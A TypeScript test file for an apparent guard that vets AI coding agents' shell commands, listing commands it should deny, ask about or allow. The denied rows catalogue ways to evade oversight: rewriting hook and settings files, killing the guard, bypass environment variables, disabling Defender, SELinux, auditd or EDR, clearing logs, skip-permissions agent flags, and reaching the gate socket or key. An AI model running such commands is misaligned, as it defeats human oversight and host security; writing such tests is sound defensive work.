import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ShellAction } from '../../src/core/action.ts';
import { decide } from '../../src/core/decide.ts';
import { defaultPolicy } from '../../src/core/policy/defaults.ts';
import type { Decision } from '../../src/core/verdict.ts';
import { blindWorld, type World } from '../../src/core/world.ts';
import { fakeWorld } from '../unit/core/fake-world.ts';

const home = '/home/dev';
const project = '/home/dev/project';

function decided(command: string, world: World): Decision {
  const action: ShellAction = { tool: 'shell', shell: 'bash', command, agent: 'test', session: '', cwd: project, workspaceRoots: [project], env: { HOME: home } };
  return decide(action, world, defaultPolicy).decision;
}

const disk = fakeWorld({ repositories: [project], files: { [`${project}/x.json`]: 'clean', [`${project}/.claude/agents/a.md`]: 'clean', [`${home}/.claude/settings.json`]: 'clean', [`${home}/.claude/hooks/guard.sh`]: 'clean' } });

function table(danger: string, rows: Readonly<Record<string, Decision>>): void {
  describe(danger, () => {
    for (const [command, wanted] of Object.entries(rows)) {
      it(`${wanted}: ${command}`, () => assert.equal(decided(command, blindWorld()), wanted));
      if (wanted === 'deny') it(`${wanted}: ${command}, seen on disk`, () => assert.equal(decided(command, disk), wanted));
    }
  });
}

table('a guard file is changed by whatever route', {
  'echo {} > ~/.claude/settings.json': 'deny', 'echo {} >> ~/.claude/settings.json': 'deny', ': > .cursor/hooks.json': 'deny', "sed -i 's/hooks/x/' ~/.claude/settings.json": 'deny', 'cp x.json ~/.claude/settings.json': 'deny', 'cp x.json .claude/settings.local.json': 'deny', 'mv x.json .claude/settings.json': 'deny', 'mv ~/.claude/settings.json /tmp/x': 'deny', 'rm ~/.claude/settings.json': 'deny', 'ln -s /dev/null .cursor/hooks.json': 'deny', 'ln -sf x.json ~/.claude/settings.json': 'deny', 'install x.json .claude/settings.json': 'deny', 'rsync -a x.json ~/.claude/settings.json': 'deny', 'truncate -s 0 ~/.claude/settings.json': 'deny', 'chmod 000 ~/.claude/settings.json': 'deny', 'chown nobody ~/.claude/settings.json': 'deny', 'chattr -i ~/.claude/settings.json': 'deny', 'touch .claude/settings.local.json': 'deny', 'dd if=/dev/null of=.cursor/hooks.json': 'deny', 'curl -o .cursor/hooks.json https://example.com/x': 'deny', 'wget -O .cursor/hooks.json https://example.com/x': 'deny', 'jq . x.json | tee ~/.claude/settings.json': 'deny', "perl -pi -e 's/a/b/' ~/.claude/settings.json": 'deny', "ex -sc '%d|x' ~/.claude/settings.json": 'deny', 'tar xf x.tar -C ~/.interlock': 'deny', 'unzip -o x.zip -d ~/.interlock': 'deny', 'sudo sh -c "echo x > /etc/interlock/policy.json"': 'deny', 'cd ~/.claude && echo x > settings.json': 'deny',
  "python3 -c \"open('/home/dev/.claude/settings.json', 'w').write('{}')\"": 'deny', "python3 -c \"open('/home/dev/.claude/settings.json', 'a').write('{}')\"": 'deny', "python3 -c \"import os; os.rename('/home/dev/.claude/settings.json', '/tmp/x')\"": 'deny', "node -e \"require('fs').writeFileSync('.claude/settings.json', '{}')\"": 'deny', "ruby -e 'File.write(\".claude/settings.json\", \"\")'": 'deny',
  'cat ~/.claude/settings.json': 'allow', 'jq .hooks .claude/settings.json': 'allow', 'cp ~/.claude/settings.json /tmp/x.json': 'allow', 'ls -la ~/.claude/hooks': 'allow', 'touch .claude/agents/a.md': 'allow', 'echo x >> .claude/CLAUDE.md': 'allow', "python3 -c \"print(open('/home/dev/.claude/settings.json').read())\"": 'allow', 'git add .claude/settings.json': 'allow',
});

table('a hook’s own script is changed', {
  "sed -i 's/exit 2/exit 0/' ~/.claude/hooks/guard.sh": 'deny', 'chmod -x ~/.claude/hooks/guard.sh': 'deny', 'rm -rf ~/.claude/hooks': 'deny', 'mv .cursor/hooks/check.sh /tmp': 'deny', 'echo "exit 0" > .claude/hooks/check.sh': 'deny',
  'bash -n ~/.claude/hooks/guard.sh': 'allow', 'cat ~/.claude/hooks/guard.sh': 'allow',
});

table('a plugin that asks before each action is changed', {
  'rm ~/.config/opencode/plugins/interlock.js': 'deny', 'echo "" > ~/.config/kilo/plugin/interlock.js': 'deny', 'mv ~/.config/amp/plugins/interlock.ts /tmp': 'deny', 'rm -rf ~/.config/opencode': 'deny', 'cp evil.js .opencode/plugins/z.js': 'deny', 'cp evil.js .kilo/plugins/z.js': 'deny', 'tee .kilocode/plugin/z.ts < x': 'deny', 'cp evil.ts .amp/plugins/z.ts': 'deny', 'sudo cp x.json /etc/kilo/kilo.json': 'deny', "echo '{\"plugin\":[\"evil\"]}' > opencode.jsonc": 'deny', "echo '{\"permission\":\"allow\"}' > .kilo/kilo.json": 'deny', "sed -i 's/await ask/ask/' ~/.config/opencode/plugins/interlock.js": 'deny',
  'cat ~/.config/opencode/plugins/interlock.js': 'allow', 'jq .plugin opencode.json': 'allow', 'ls .kilo/plugins': 'allow', 'touch .opencode/agent/reviewer.md': 'allow', 'touch .kilo/rules/style.md': 'allow',
});

table('the editor’s settings are written past the editor', {
  ...Object.fromEntries(
    ['~/.config/Code/User/settings.json', '~/.config/Cursor/User/profiles/-4f2a/settings.json', '~/.vscode-server/data/Machine/settings.json', '~/.cursor-server/data/Machine/settings.json', '~/.vscode-remote/data/Machine/settings.json', '~/.local/share/code-server/User/settings.json', '~/.local/share/code-server/Machine/settings.json', '~/.local/share/code-server/User/profiles/a/settings.json'].flatMap((file) => [
      [`echo '{"interlock.openTelemetry.endpoint":"https://drop.example"}' > ${file}`, 'deny'], [`sed -i 's/}/,"interlock.openTelemetry.enabled":false}/' ${file}`, 'deny'], [`cat ${file}`, 'allow'],
    ] as const),
  ),
  "echo '{\"editor.tabSize\":2}' > ~/.vscode-server/data/Machine/settings.json": 'keep', 'ls ~/.vscode-server/data/Machine': 'allow',
});

table('the guard is taken away', {
  'code --uninstall-extension interlock.interlock': 'deny', 'cursor --disable-extension interlock.interlock': 'deny', 'rm -rf ~/.vscode/extensions/interlock.interlock-1.0.0': 'deny', 'mv ~/.cursor/extensions/interlock.interlock-1.0.0 /tmp': 'deny', 'pkill -f interlock': 'deny', 'kill -9 $(pgrep -f interlock)': 'deny', 'claude config set disableAllHooks true': 'deny', 'gemini hooks disable interlock': 'deny',
  'pkill -9 cursor': 'ask', 'killall Code': 'ask',
  'code --list-extensions': 'allow', 'code --uninstall-extension other.theme': 'allow', 'rm -rf ~/.vscode/extensions/other.theme-1.0.0/node_modules': 'allow', 'pkill -f "vite dev"': 'allow', 'claude config list': 'allow', 'pgrep -f interlock': 'allow',
});

table('another guard is switched off', {
  'nah allow network_outbound': 'deny', 'nice nah trust api.example.com': 'deny', "echo 'nah pause' | sh": 'deny', 'dcg allow-once 4711': 'deny', 'npx -y cc-safety-net uninstall --all': 'deny', 'uv tool uninstall nah': 'deny', 'cargo +nightly uninstall destructive_command_guard': 'deny', 'npm uninstall -g cc-safety-net': 'deny', 'brew uninstall nah': 'deny', 'claude plugin uninstall nah@nah': 'deny', 'hermes hooks rm "nah hook hermes run"': 'deny', 'sudo apt-get purge -y auditd': 'deny', 'pi remove npm:cc-safety-net': 'deny', 'gemini extensions uninstall cc-safety-net': 'deny', 'pip uninstall -y nah': 'deny', 'rm -rf ~/.config/dcg': 'deny', 'echo "[overrides]" >> .dcg.toml': 'deny', 'tar xf mine.tar -C ~/.cc-safety-net': 'deny', "sed -i.orig 's/block/allow/' ~/.config/nah/config.yaml": 'deny', 'ln -sf /bin/true /usr/local/bin/dcg': 'deny', 'chmod 000 ~/.local/bin/nah': 'deny', "python3 -c \"open('/home/dev/.dippy/settings.toml', 'w').write('')\"": 'deny',
  'DCG_BYPASS=1 make clean': 'deny', 'export NAH_DISABLED=true && make': 'deny', 'env TIRITH=0 make': 'deny', 'setx DCG_DISABLE all': 'deny', 'CC_SAFETY_NET_HOME=/tmp/x make': 'deny',
  'nah log': 'allow', 'nah deny network_outbound': 'allow', 'dcg test "rm -rf build"': 'allow', 'dcg allowlist list': 'allow', 'cat ~/.config/nah/config.yaml': 'allow', 'cp ~/.config/dcg/config.toml /tmp/c.toml': 'allow', 'DCG_FORMAT=json dcg doctor': 'allow', 'DCG_BYPASS=0 make': 'allow', 'export TIRITH=1': 'allow', 'echo $DCG_BYPASS': 'allow', 'pip uninstall -y flask': 'allow', 'cargo uninstall nahrung': 'allow', 'npm install -g cc-safety-net': 'allow', 'claude plugin list': 'allow', 'pi remove npm:themes': 'allow', 'claude plugin uninstall theme@store': 'allow', 'npm run remove nah': 'allow', 'mkdir -p ~/.config/nahrung': 'allow', 'GUARD=1 make': 'allow', 'touch ~/.local/bin/tool': 'allow',
});

table('the machine’s own protection is taken away', {
  'sudo setenforce 0': 'deny', 'sudo spctl --master-disable': 'deny', 'csrutil disable': 'deny', 'sudo fdesetup disable': 'deny', 'sudo auditctl -e 0': 'deny', 'systemctl stop falcon-sensor': 'deny', 'sudo systemctl disable --now auditd.service': 'deny', 'service clamav-daemon stop': 'deny', 'sudo launchctl bootout system/com.crowdstrike.falcond': 'deny', 'sc config WinDefend start= disabled': 'deny', 'net stop WinDefend': 'deny', 'auditpol //clear //y': 'deny', 'netsh advfirewall set allprofiles state off': 'deny', 'Set-MpPreference -DisableRealtimeMonitoring $true': 'deny', 'Add-MpPreference -ExclusionProcess node.exe': 'deny', 'Disable-BitLocker -MountPoint D:': 'deny', 'Clear-EventLog -LogName System': 'deny', 'Set-NetFirewallProfile -Profile Domain -Enabled False': 'deny', 'pkill -9 osqueryd': 'deny', 'mdatp config real-time-protection --value disabled': 'deny',
  'reg add "HKLM/Software/Policies/Microsoft/Windows/PowerShell/ScriptBlockLogging" /v EnableScriptBlockLogging /d 0 /f': 'deny', 'Set-ItemProperty HKLM:/SOFTWARE/Policies/Microsoft/Windows/PowerShell/ModuleLogging -Name EnableModuleLogging -Value 0': 'deny',
  'getenforce': 'allow', 'setenforce 1': 'allow', 'spctl --status': 'allow', 'csrutil status': 'allow', 'systemctl restart auditd': 'allow', 'systemctl status falcon-sensor': 'allow', 'auditctl -l': 'allow', 'Set-MpPreference -DisableRealtimeMonitoring $false': 'allow', 'Get-MpPreference': 'allow', 'Add-MpPreference -ExclusionPath C:/x -WhatIf': 'allow', 'Set-ItemProperty HKCU:/Software/App -Name Theme -Value 0': 'allow', 'wevtutil el': 'allow', 'auditpol /get /category:*': 'allow', 'sc query WinDefend': 'allow', 'sc config Spooler start= auto': 'allow', 'netsh advfirewall show allprofiles': 'allow', 'pgrep osqueryd': 'allow',
});

table('a guard of another account', {
  'echo {} > /root/.claude/settings.json': 'deny', 'rm /home/other/.cursor/hooks.json': 'deny', 'cp x.json /Users/other/.claude.json': 'deny',
  'cat /home/other/.claude/settings.json': 'allow', 'ls /root/.claude': 'allow',
});

table('the hooks of one agent among many are changed', {
  ...Object.fromEntries(
    [
      '~/.config/devin/config.json', '.devin/config.local.json', '.devin/hooks.v1.json', '~/.codeium/windsurf/hooks.json', '~/.codeium/hooks.json', '.windsurf/hooks.json', '/etc/windsurf/hooks.json',
      '~/.kiro/hooks/interlock.json', '.kiro/hooks/lint.json', '~/.kiro/settings/permissions.yaml', '.kiro/settings/permissions.yaml', '~/.augment/settings.json', '.augment/settings.local.json', '/etc/augment/settings.json',
      '~/.factory/hooks.json', '.factory/hooks.json', '.factory/hooks/hooks.json', '~/.factory/settings.json', '.factory/settings.local.json', '~/.gemini/config/hooks.json', '.agents/hooks.json', '.agent/hooks.json', '_agents/hooks.json',
      '.antigravity/settings.json', '~/.grok/hooks/interlock.json', '.grok/hooks/a.json', '~/.grok/config.toml', '~/.grok/requirements.toml', '/etc/grok/managed_config.toml',
    ].flatMap((file) => [[`echo {} > ${file}`, 'deny'], [`rm ${file}`, 'deny']] as const),
  ),
  'echo x > .devin/notes.md': 'keep', 'echo x > .kiro/steering/product.md': 'keep', 'echo {} > .windsurf/rules.json': 'keep', 'echo x > ~/.grok/memory/a.md': 'keep', 'echo x > .factory/droids/reviewer.md': 'keep', 'echo {} > hooks.json': 'keep', 'echo x > .agents/skills/a.md': 'keep', 'echo {} > .augment/rules.json': 'keep',
  ...Object.fromEntries(['~/.config/devin/config.json', '~/.kiro/hooks/a.json', '~/.factory/hooks.json', '~/.grok/config.toml', '~/.gemini/config/hooks.json'].map((file) => [`cat ${file}`, 'allow'])),
});

table('another agent is started that asks nobody', {
  'claude --dangerously-skip-permissions -p "fix it"': 'ask', 'claude -p x --permission-mode bypassPermissions': 'ask', 'gemini --yolo -p x': 'ask', 'codex exec --dangerously-bypass-approvals-and-sandbox x': 'ask', 'npx @anthropic-ai/claude-code --dangerously-skip-permissions': 'ask', 'CLAUDE_CONFIG_DIR=/tmp/x claude -p y': 'ask', 'opencode --pure': 'ask', 'timeout 60 copilot --allow-all-tools -p x': 'ask',
  'claude -p "explain --yolo"': 'allow', 'claude --version': 'allow', 'codex exec "explain this"': 'allow', 'gemini -p hello': 'allow', 'grep -rn dangerously-skip-permissions docs': 'allow',
});

table('the gate’s own sockets are talked to', {
  'curl --unix-socket ~/.interlock/run/gate.sock http://x/v1/status': 'deny', 'curl -s --unix-socket=/home/dev/.interlock/run/gate.sock -d @x.json http://x/v1/windows': 'deny', 'curl --unix-socket /tmp/interlock-1000-abcdef012345/gate.sock http://x/': 'deny', 'cd ~/.interlock/run && curl --unix-socket gate.sock http://x/': 'deny', 'S=~/.interlock/run/gate.sock; curl --unix-socket $S http://x/': 'deny', 'curl --unix-socket "$(ls ~/.interlock/run/*.sock | head -1)" http://x/': 'deny', 'bash -c "nc -U ~/.interlock/run/gate.sock"': 'deny', 'nc -U ~/.interlock/run/window-1-ab.sock < x.json': 'deny', 'socat - UNIX-CONNECT:/home/dev/.interlock/run/gate.sock': 'deny', 'socat UNIX-LISTEN:/home/dev/.interlock/run/gate.sock,fork EXEC:/bin/cat': 'deny', 'busybox nc local:/home/dev/.interlock/run/gate.sock': 'deny', 'http http+unix://%2Fhome%2Fdev%2F.interlock%2Frun%2Fgate.sock/v1/status': 'deny', 'ssh -L 9000:/home/dev/.interlock/run/gate.sock localhost': 'deny', 'xargs -I{} curl --unix-socket ~/.interlock/run/gate.sock -d {} http://x/v1/hook < x.txt': 'deny', 'rm ~/.interlock/run/gate.sock': 'deny',
  "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('/home/dev/.interlock/run/gate.sock')\"": 'deny', "python3 - <<'E'\nimport os, socket\ns = socket.socket(socket.AF_UNIX)\ns.bind(os.path.expanduser('~/.interlock/run/gate.sock'))\nE": 'deny', "node -e \"require('http').request({ socketPath: require('os').homedir() + '/.interlock/run/gate.sock' })\"": 'deny', "node -e \"require('net').createServer().listen('/home/dev/.interlock/run/gate.sock')\"": 'deny', "perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => \"/home/dev/.interlock/run/gate.sock\")'": 'deny', "powershell -c \"[IO.Pipes.NamedPipeClientStream]::new('.', 'x').Connect(); $p = '\\\\.\\pipe\\interlock-abcdef012345-gate'\"": 'deny',
  'NODE_OPTIONS=--require=/tmp/e.js node ~/.interlock/bin/standby.js': 'deny', 'cd ~/.interlock/bin && node --require /tmp/e.js ./standby.js': 'deny',
  'cat ~/.interlock/gate.key': 'deny', 'xxd ~/.interlock/gate.key': 'deny', "python3 -c \"print(open('/home/dev/.interlock/gate.key').read())\"": 'deny', 'echo x > ~/.interlock/gate.key': 'deny',
  'ls -la ~/.interlock/bin/standby.js': 'allow', 'node scripts/standby.js': 'allow', 'cd services && node standby.js': 'allow', 'ls -la ~/.interlock/run': 'allow', 'stat ~/.interlock/run/gate.sock': 'allow', 'git commit -m "Talk to .interlock/run/gate.sock by curl"': 'allow', 'grep -rn "interlock/run" src': 'allow', 'echo "the socket is ~/.interlock/run/gate.sock"': 'allow', 'curl --unix-socket /var/run/docker.sock http://localhost/containers/json': 'allow', 'nc -U /tmp/app.sock': 'allow', 'node -e "console.log(\'.interlock/run is a folder\')"': 'allow', 'mysql -S /run/mysqld/mysqld.sock -e "select 1"': 'allow',
});
